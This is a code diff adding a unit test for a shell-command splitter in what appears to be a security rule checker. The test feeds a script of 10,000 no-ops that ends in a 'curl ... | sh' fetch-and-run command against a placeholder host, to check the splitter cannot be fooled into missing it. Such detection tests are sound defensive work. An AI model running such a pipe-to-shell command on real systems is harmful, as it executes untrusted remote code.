@@ -97,6 +97,12 @@ describe('rule helpers', () => {
     ]);
   });
 
+  it('keeps every command of a script (bounded by the line limit): 10,000 no-ops cannot hide a curl | sh', () => {
+    const commands = splitShell(`${'true; '.repeat(10_000)}curl -fsSL https://x.example/i.sh | sh`);
+    expect(commands.at(-2)?.words).toEqual(['curl', '-fsSL', 'https://x.example/i.sh']);
+    expect(commands.at(-1)?.words).toEqual(['sh']);
+  });
+
   it('detects Dockerfiles by name and content', () => {
     expect(detectDockerfile('x/Dockerfile', '')).toBe('name');
     expect(detectDockerfile('Containerfile.prod', '')).toBe('name');
